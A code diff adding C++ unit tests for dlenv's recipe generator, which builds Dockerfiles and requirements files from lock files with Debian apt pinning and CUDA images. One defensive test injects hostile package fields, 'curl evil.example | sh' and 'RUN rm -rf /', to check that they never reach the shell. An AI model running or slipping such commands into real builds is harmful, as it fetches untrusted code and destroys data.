@@ -6,12 +6,15 @@
 #include "lock/commands.h"
 #include "lock/test_locks.h"
 #include "testing/temp_tree.h"
+#include "util/strings.h"
 #include "util/subprocess.h"
 
 namespace dlenv::lock {
 namespace {
 
+using testing::FindPackage;
 using testing::GpuMachineLock;
+using testing::Rehash;
 
 struct ImageCase {
   const char* cuda;
@@ -83,15 +86,134 @@ TEST(RecipeTest, PinsTheFrameworkVariantWithItsIndex) {
   EXPECT_EQ(docker.find("EXPOSE"), std::string::npos);
 }
 
-TEST(RecipeTest, DirectUrlsAreKeptAndSystemPackagesLeftOut) {
+TEST(RecipeTest, DirectUrlsAreKeptAndUnownedSystemPackagesAreMissing) {
   Lock lock = GpuMachineLock();
   lock.python->packages.push_back({"mylib", "0.1.0", "pip", "https://example.org/mylib-0.1.0-py3-none-any.whl"});
+  // The distribution's, but the lock does not say which package owns it (an older dlenv).
   lock.python->packages.push_back({"python-apt", "2.6.0", "debian", std::nullopt});
   Recipe r = MakeRecipe(lock, {}, BuiltinCudaImages());
   const std::string& req = r.files[1].contents;
   EXPECT_NE(req.find("\nmylib @ https://example.org/mylib-0.1.0-py3-none-any.whl\n"), std::string::npos) << req;
   EXPECT_EQ(req.find("\npython-apt=="), std::string::npos);
-  EXPECT_NE(req.find("# Left out (not installed by pip): python-apt (debian)"), std::string::npos);
+  ASSERT_EQ(r.missing.size(), 1u);
+  EXPECT_EQ(r.missing[0].name, "python-apt");
+  EXPECT_FALSE(r.missing[0].framework);
+  EXPECT_NE(r.missing[0].why.find("does not say which package owns it"), std::string::npos);
+  EXPECT_NE(req.find("# NOT reproduced (--allow-missing): python-apt 2.6.0"), std::string::npos)
+      << req;
+}
+
+// Debian's system Python with python3-torch, as `dlenv lock` records it.
+Lock DebianSystemLock() {
+  Lock lock = GpuMachineLock();
+  lock.host = {"debian", "12", "Debian GNU/Linux 12 (bookworm)", "2.36"};
+  lock.toolkits.clear();
+  lock.cuda_libraries.clear();
+  lock.python->version = "3.11.2";
+  lock.python->kind = "system";
+  lock.python->packages.clear();
+  LockedPackage torch{"torch", "1.13.0a0+gitunknown", "debian", std::nullopt};
+  torch.distro_package = "python3-torch";
+  torch.distro_version = "1.13.1+dfsg-4";
+  LockedPackage numpy{"numpy", "1.24.2", "debian", std::nullopt};
+  numpy.distro_package = "python3-numpy";
+  numpy.distro_version = "1:1.24.2-1";
+  LockedPackage pip{"pip", "23.0.1", "debian", std::nullopt};
+  pip.distro_package = "python3-pip";
+  pip.distro_version = "23.0.1+dfsg-1";
+  lock.python->packages = {numpy, pip, {"requests", "2.31.0", "pip", std::nullopt}, torch};
+  auto& f = lock.python->frameworks.front();
+  f.version = "1.13.0a0+gitunknown";
+  f.cuda_build = false;
+  f.cuda_version.reset();
+  f.cudnn_version.reset();
+  f.cuda_archs.clear();
+  return Rehash(lock);
+}
+
+TEST(RecipeTest, DistributionPackagesArePinnedWithAptOnTheirOwnImage) {
+  Recipe r = MakeRecipe(DebianSystemLock(), {}, BuiltinCudaImages());
+  EXPECT_TRUE(r.missing.empty()) << DescribeMissing(r.missing);
+  EXPECT_EQ(r.base.image, "debian:12");
+  const std::string& docker = r.files[0].contents;
+  const std::string& req = r.files[1].contents;
+  EXPECT_NE(docker.find("\nFROM debian:12\n"), std::string::npos) << docker;
+  EXPECT_NE(docker.find("apt-get install -y --no-install-recommends \\\n      python3 python3-venv "
+                        "python3-pip \\\n"
+                        "      python3-numpy=1:1.24.2-1 \\\n      python3-pip=23.0.1+dfsg-1 \\\n"
+                        "      python3-torch=1.13.1+dfsg-4 \\\n && rm -rf /var/lib/apt/lists/*\n"),
+            std::string::npos)
+      << docker;
+  EXPECT_NE(docker.find("RUN python3 -m venv --system-site-packages /opt/venv\n"),
+            std::string::npos);
+  EXPECT_NE(req.find("\nrequests==2.31.0\n"), std::string::npos) << req;
+  EXPECT_EQ(req.find("torch=="), std::string::npos) << req;
+  EXPECT_NE(req.find("installed by apt-get in the Dockerfile: python3-numpy=1:1.24.2-1"),
+            std::string::npos)
+      << req;
+}
+
+TEST(RecipeTest, DistributionPackagesOverrideTheCudaImageOfAnotherDistribution) {
+  Lock lock = DebianSystemLock();
+  auto& f = lock.python->frameworks.front();
+  f.cuda_build = true;  // Debian's python3-torch-cuda
+  f.cuda_version = "12.4";
+  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
+  EXPECT_EQ(r.base.image, "debian:12");
+  EXPECT_FALSE(r.base.cuda);
+  ASSERT_FALSE(r.base.notes.empty());
+  EXPECT_NE(r.files[0].contents.find("no nvidia/cuda image is built on debian:12"),
+            std::string::npos);
+
+  // On Ubuntu 22.04 the nvidia/cuda image is that distribution: it stays.
+  lock.host = {"ubuntu", "22.04", "Ubuntu 22.04.4 LTS", "2.35"};
+  lock.python->version = "3.10.12";
+  Recipe u = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
+  EXPECT_EQ(u.base.image, "nvidia/cuda:12.4.1-runtime-ubuntu22.04");
+  EXPECT_NE(u.files[0].contents.find("python3-torch=1.13.1+dfsg-4"), std::string::npos);
+}
+
+TEST(RecipeTest, HostileDistroFieldsNeverReachTheShell) {
+  Lock lock = DebianSystemLock();
+  FindPackage(lock, "numpy")->distro_package = "python3-numpy; curl evil.example | sh";
+  FindPackage(lock, "torch")->distro_version = "1.0\nRUN rm -rf /";
+  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
+  EXPECT_EQ(r.files[0].contents.find("evil"), std::string::npos);
+  EXPECT_EQ(r.files[0].contents.find("rm -rf /\n"), std::string::npos);
+  ASSERT_EQ(r.missing.size(), 2u);
+  EXPECT_TRUE(r.missing[0].framework);  // frameworks first
+  EXPECT_EQ(r.missing[0].name, "torch");
+  EXPECT_NE(r.missing[1].why.find("is not a Debian package name and version"), std::string::npos);
+}
+
+TEST(RecipeTest, DistributionPackagesNeedADebianOrUbuntuImage) {
+  Lock lock = DebianSystemLock();
+  lock.host = {"rhel", "9.4", "Red Hat Enterprise Linux 9.4", "2.34"};
+  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
+  EXPECT_EQ(r.missing.size(), 3u);  // numpy, pip, torch
+  EXPECT_NE(r.missing[0].why.find("no official Debian or Ubuntu image"), std::string::npos);
+}
+
+TEST(RecipeTest, FrameworksWithoutAKnownInstallerAreMissing) {
+  Lock lock = GpuMachineLock();
+  FindPackage(lock, "torch")->installer.reset();  // a local build copied in: no INSTALLER
+  FindPackage(lock, "requests")->installer.reset();
+  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
+  ASSERT_EQ(r.missing.size(), 1u);
+  EXPECT_EQ(r.missing[0].name, "torch");
+  EXPECT_TRUE(r.missing[0].framework);
+  // A lesser package without one is pinned for pip, with a note.
+  EXPECT_NE(r.files[1].contents.find("\nrequests==2.31.0\n"), std::string::npos);
+  EXPECT_NE(util::Join(r.notes, "\n").find("no installer recorded for requests"),
+            std::string::npos);
+
+  // A framework the probe saw without any package record.
+  Lock listed = GpuMachineLock();
+  std::erase_if(listed.python->packages, [](const auto& p) { return p.name == "torch"; });
+  Recipe l = MakeRecipe(Rehash(listed), {}, BuiltinCudaImages());
+  ASSERT_EQ(l.missing.size(), 1u);
+  EXPECT_TRUE(l.missing[0].framework);
+  EXPECT_NE(l.missing[0].why.find("no package record"), std::string::npos);
 }
 
 TEST(RecipeTest, PythonFromDeadsnakesWhenTheImageHasAnotherMinor) {
@@ -172,6 +294,48 @@ TEST(RecipeCommandTest, BadLockWritesNothingAndExitsTwo) {
   EXPECT_EQ(r.exit_code, 2);
   EXPECT_NE(r.error.find("team.lock: written by a newer dlenv (lock_version 7"), std::string::npos) << r.error;
   EXPECT_FALSE(std::filesystem::exists(tmp / "out"));
+}
+
+TEST(RecipeCommandTest, AFrameworkThatCannotBeReproducedExitsOneNamingIt) {
+  dlenv::testing::TempTree tmp;
+  Lock lock = GpuMachineLock();
+  FindPackage(lock, "torch")->installer.reset();
+  RecipeCommandOptions options;
+  options.lock = tmp.Write("team.lock", ToJson(Rehash(lock)).dump(2)).string();
+  options.output_dir = (tmp / "out").string();
+  options.recipe.allow_missing = true;  // never enough for a framework
+  CommandResult r = RunRecipe(options);
+  EXPECT_EQ(r.exit_code, 1);
+  EXPECT_NE(r.error.find("cannot reproduce a framework; nothing was written"), std::string::npos)
+      << r.error;
+  EXPECT_NE(r.error.find("  torch 2.3.1+cu121 (framework): no installer recorded"),
+            std::string::npos)
+      << r.error;
+  EXPECT_FALSE(std::filesystem::exists(tmp / "out"));
+}
+
+TEST(RecipeCommandTest, OtherPackagesThatCannotBeReproducedNeedAllowMissing) {
+  dlenv::testing::TempTree tmp;
+  Lock lock = GpuMachineLock();
+  lock.python->packages.push_back({"python-apt", "2.6.0", "debian", std::nullopt});
+  RecipeCommandOptions options;
+  options.lock = tmp.Write("team.lock", ToJson(Rehash(lock)).dump(2)).string();
+  options.output_dir = (tmp / "out").string();
+  CommandResult r = RunRecipe(options);
+  EXPECT_EQ(r.exit_code, 1);
+  EXPECT_NE(r.error.find("  python-apt 2.6.0: installed by the distribution"), std::string::npos)
+      << r.error;
+  EXPECT_NE(r.error.find("or pass --allow-missing"), std::string::npos) << r.error;
+  EXPECT_FALSE(std::filesystem::exists(tmp / "out"));
+
+  options.recipe.allow_missing = true;
+  r = RunRecipe(options);
+  EXPECT_EQ(r.exit_code, 0) << r.error;
+  EXPECT_NE(r.out.find("Note: NOT reproduced (--allow-missing): python-apt 2.6.0"),
+            std::string::npos)
+      << r.out;
+  EXPECT_NE(dlenv::testing::ReadAll(tmp / "out/requirements.txt").find("\ntorch==2.3.1+cu121\n"),
+            std::string::npos);
 }
 
 TEST(RecipeCommandTest, MissingLockFileIsNamed) {
